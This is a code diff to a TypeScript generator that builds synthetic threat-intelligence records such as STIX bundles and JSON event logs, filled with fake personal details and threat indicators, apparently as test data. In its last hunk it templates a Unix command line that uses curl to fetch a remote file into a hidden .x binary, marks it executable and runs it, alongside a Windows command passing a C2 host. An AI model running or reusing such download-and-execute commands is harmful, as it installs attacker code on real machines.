@@ -468,6 +468,15 @@ function defang(b: Builder, domain: string): string {
   return b.r.chance(0.5) ? domain.replace(/\.(?=[^.]+$)/, '[.]') : domain;
 }
 
+/** The customer's name as registers and exports write it: "LEFÈBVRE Ségolène", "Brückner, Jürgen". */
+function registerName(c: Ctx): string {
+  const { b, v } = c;
+  b.put(v.name);
+  const p = v.person;
+  if (b.loc.eastern || b.loc.lang === 'ar' || b.r.chance(0.3)) return p.full;
+  return ['fr', 'it', 'es', 'pt', 'pl', 'tr'].includes(b.loc.lang) ? `${p.family.toLocaleUpperCase(b.loc.lang)} ${p.given}` : `${p.family}, ${p.given}`;
+}
+
 function address(c: Ctx): string {
   const { b, v } = c;
   return b.loc.address(b.put(v.street), b.put(v.postcode), v.city);
@@ -556,7 +565,7 @@ export const GENRES: Record<string, (c: Ctx) => string> = {
     const L = b.loc.phrases.labels;
     return [
       [L.customer, L.customerNo, L.address, L.dob, L.bank].join('\t'),
-      [b.put(v.name), b.put(v.customerNo), address(c), b.put(v.dob), b.put(v.bank)].join('\t'),
+      [registerName(c), b.put(v.customerNo), address(c), b.put(v.dob), b.put(v.bank)].join('\t'),
     ].join('\n');
   },
   json(c) {
@@ -568,7 +577,9 @@ export const GENRES: Record<string, (c: Ctx) => string> = {
       events: [{ ts: c.date, dst: t.c2[0], dst_ip: t.ips[0], src: b.put(v.privateIp) }],
     };
     b.put(v.dob);
-    return b.r.chance(0.5) ? JSON.stringify(doc, null, 2) : JSON.stringify(doc);
+    const json = b.r.chance(0.5) ? JSON.stringify(doc, null, 2) : JSON.stringify(doc);
+    // Python's json.dumps escapes every non-ASCII character by default.
+    return b.r.chance(0.4) ? json.replace(/[^\x00-\x7f]/g, (ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`) : json;
   },
   yaml(c) {
     const { b, v, t } = c;
@@ -694,8 +705,11 @@ function bundleFor(c: Ctx, staffB: Staff, profileHasTeam: boolean): StixBundle {
   let gi = 0;
   const genre = (where: string): string => {
     const g = genres[gi++ % genres.length];
+    const outer = b.where;
     b.where = `${where} (${g})`;
-    return GENRES[g](c);
+    const body = GENRES[g](c);
+    b.where = outer;
+    return body;
   };
   const acr = org.acronym.toLowerCase().replace(/[^a-z0-9]/g, '');
   const sdo = (type: string, props: Record<string, unknown>): StixObject => {
@@ -778,12 +792,13 @@ function bundleFor(c: Ctx, staffB: Staff, profileHasTeam: boolean): StixBundle {
   b.threat('hash:sha256', t.sha256, { kind: 'hash', value: t.sha256 });
   b.threat('hash:md5', t.md5, { kind: 'hash', value: t.md5 });
   b.where = 'user-account';
-  const account = b.sco('user-account', { user_id: b.put(v.login), account_login: b.put(v.login), display_name: b.put(v.name), account_type: r.pick(['windows-local', 'unix']) });
+  const windows = v.home.s.text.startsWith('C:');
+  const account = b.sco('user-account', { user_id: b.put(v.login), account_login: b.put(v.login), display_name: b.put(v.name), account_type: windows ? 'windows-local' : 'unix' });
   b.where = 'process.command_line';
   const proc = b.sco('process', {
-    command_line: r.chance(0.5)
+    command_line: windows
       ? `"${v.home.s.text}\\${t.sampleName}" --host ${b.put(v.host)} --c2 ${t.c2[1]}`
-      : `sh -c "cd ${v.home.s.text} && wget ${t.url} -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x ${b.put(v.host)}"`,
+      : `sh -c "cd '${v.home.s.text}' && curl -s ${t.url} -o .x && chmod +x .x && ./.x ${b.put(v.host)}"`,
   });
   b.put(v.home);
   b.where = 'email-addr';
